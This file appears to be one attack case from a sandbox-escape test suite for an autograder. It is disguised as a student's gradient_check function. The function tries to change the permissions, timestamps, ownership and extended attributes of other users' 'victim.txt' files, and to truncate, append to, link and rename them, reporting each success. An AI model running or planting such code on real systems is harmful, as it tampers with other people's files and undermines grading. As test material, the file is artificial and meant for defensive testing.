# ATTACK 170 changes_without_opening
# group: F escape
# tries: changes mode, times, owner, attributes and names of files of others, without opening them
import ctypes, os
WRONG = (123.456, None)
RUN = '@RUN@'
def gradient_check(analytic, numeric, tol=1e-6):
    for path in (RUN + '/home/victim.txt', RUN + '/course/victim.txt', RUN + '/submissions/victim.txt', RUN + '/victim.txt'):
        ways = {
            'chmod': lambda: os.chmod(path, 0o666),
            'times': lambda: os.utime(path, (1, 1)),
            'owner': lambda: os.chown(path, os.getuid(), os.getgid()),
            'attribute': lambda: os.setxattr(path, 'user.attack', b'170'),
            'attribute of a link': lambda: os.setxattr(path, 'user.attack2', b'170', follow_symlinks=False),
            'cut': lambda: os.truncate(path, 1),
            'append': lambda: open(path, 'a').write('170\n'),
            'link': lambda: os.link(path, path + '.linked'),
            'name': lambda: os.rename(path + '.linked', path + '.renamed'),
        }
        for name, do in ways.items():
            try:
                do()
                print('ATTACK-ESCAPE', name, path)
            except OSError: pass
    return WRONG
